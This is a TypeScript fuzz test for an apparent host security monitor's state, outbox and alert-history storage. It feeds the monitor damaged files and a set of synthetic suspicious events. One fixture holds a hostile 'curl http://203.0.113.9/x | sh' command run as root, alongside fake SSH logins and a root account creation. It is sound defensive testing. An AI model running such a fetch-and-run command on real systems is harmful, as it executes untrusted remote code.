/** Files of the data folder as somebody left them who may write there: saved state, outbox, recent alerts. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import type { GuardState } from "../../src/pipeline/guard.ts";
import { DiskOutbox } from "../../src/store/disk-outbox.ts";
import { History } from "../../src/store/history.ts";
import { lockFolder } from "../../src/store/instance-lock.ts";
import { StateFile } from "../../src/store/state-file.ts";
import { accounts } from "../../src/streams/accounts.ts";
import { openHostRoot } from "../../src/streams/host-root.ts";
import type { InputKind } from "./kind.ts";
import { HostileModule, lineLog } from "./module.ts";
import { bytesOf, deepJson, json, ownEntries, text } from "./words.ts";

/** Most CPU time of a start of the whole module, with a file sync or two, ms: no single input of a running one. */
const startMs = 1_000;

/** A value of the wrong kind put somewhere into a true one. */
function spoil(value: unknown, path: readonly number[], by: unknown): unknown {
  const [at, ...rest] = path;
  if (at === undefined || value === null || typeof value !== "object") return by;
  const entries = Object.entries(value);
  const chosen = entries[at % Math.max(1, entries.length)]?.[0];
  if (chosen === undefined) return by;
  if (Array.isArray(value))
    return value.map((item, index) => (String(index) === chosen ? spoil(item, rest, by) : item));
  return ownEntries(entries.map(([key, item]) => [key, key === chosen ? spoil(item, rest, by) : item]));
}

/** What a file of the state may hold: a true one with wounds, or anything at all. */
function stateFile(trueState: () => string): fc.Arbitrary<Buffer> {
  const path = fc.array(fc.nat(60), { minLength: 1, maxLength: 7 });
  const wounded = fc.array(fc.tuple(path, json), { minLength: 1, maxLength: 4 }).map((wounds) => {
    const spoiled = wounds.reduce<unknown>((value, [at, by]) => spoil(value, at, by), JSON.parse(trueState()));
    return Buffer.from(JSON.stringify(spoiled));
  });
  return fc.oneof({ weight: 6, arbitrary: wounded }, { weight: 1, arbitrary: bytesOf(fc.oneof(text, deepJson)) });
}

/** The state that a busy module saved, wounded, given to a new one, which then works on. */
export function savedState(trueState: () => string): InputKind<Buffer> {
  return {
    name: "saved state",
    share: 0.1,
    mostMs: startMs,
    arbitrary: stateFile(trueState),
    async feed(subject, bytes) {
      const saved = await inFolder(async (folder) => {
        writeFileSync(join(folder, "state.json"), bytes);
        return new StateFile<GuardState>(folder, "state.json", lineLog(subject)).load();
      });
      const module = new HostileModule(subject, saved);
      for (const fact of ordinary(subject.now())) module.take(fact);
      const again = await module.close();
      if (again !== undefined && again.length > 64 << 20)
        subject.violated("size", `a state of ${again.length} characters`);
      const position = (saved?.positions as Record<string, unknown> | undefined)?.accounts;
      accounts({ hostRoot: openHostRoot("/nowhere") })
        .open(position)
        .subscribe({ error: () => undefined })
        .unsubscribe();
    },
  };
}

function ordinary(at: number) {
  const process = { pid: 7, ppid: 1, exe: "/bin/sh", argv: ["sh", "-c", "curl http://203.0.113.9/x | sh"], uid: 0 };
  return [
    { kind: "process.started", at, process },
    { kind: "file.changed", at, operation: "create", file: { path: "/tmp/x" }, process },
    { kind: "socket.connected", at, destination: { ip: "203.0.113.9", port: 80 }, process },
    {
      kind: "login.failed",
      at,
      user: "eve",
      method: "password",
      service: "sshd",
      source: { ip: "203.0.113.9" },
      pid: 9,
    },
    {
      kind: "login.succeeded",
      at,
      user: "eve",
      method: "password",
      service: "sshd",
      source: { ip: "203.0.113.9" },
      pid: 9,
    },
    { kind: "account.created", at, user: "eve", uid: 0 },
    { kind: "message.seen", at, deviceId: "d", bytes: 1 },
    { kind: "clock.ticked", at: at + 60_000 },
  ] as const;
}

interface OutboxInput {
  readonly segment: Buffer;
  readonly cursor: Buffer;
  readonly recent: Buffer;
  readonly name: string;
}

/** A whole frame around a hostile payload, or bytes that are none. */
const segment = bytesOf(
  fc.oneof(
    text,
    json.map((value) => JSON.stringify(value) ?? ""),
  ),
);

export const outboxFiles: InputKind<OutboxInput> = {
  name: "outbox, history, lock",
  share: 0.1,
  mostMs: startMs,
  arbitrary: fc.record({
    segment,
    cursor: bytesOf(text),
    recent: bytesOf(text),
    name: fc.constantFrom("0", "1", "1099511627776", "9999999999999999"),
  }),
  feed: (subject, { segment: bytes, cursor, recent, name }) =>
    inFolder(async (directory) => {
      const release = await lockFolder(directory);
      for (const severity of ["high", "low"]) {
        mkdirSync(join(directory, "outbox", severity), { recursive: true });
        writeFileSync(join(directory, "outbox", severity, `${name.padStart(16, "0")}.log`), bytes);
        writeFileSync(join(directory, "outbox", severity, "cursor"), cursor);
      }
      writeFileSync(join(directory, "recent.jsonl"), recent);
      const outbox = await DiskOutbox.open({ directory: join(directory, "outbox"), log: lineLog(subject) });
      await outbox.append([{ id: "x", output: "alerts", severity: "high", body: "{}", properties: {} }]);
      const entries = await outbox.next(10, new Set());
      if (!entries.some(({ id }) => id === "x"))
        subject.violated("lost", "an alert appended to a damaged store is not offered");
      for (const { sequence } of entries) await outbox.acknowledge(sequence);
      await outbox.close();
      await (await History.open(directory)).page(10);
      release();
    }),
};

async function inFolder<T>(act: (folder: string) => Promise<T>): Promise<T> {
  const folder = mkdtempSync(join(tmpdir(), "hostile-"));
  try {
    return await act(folder);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}
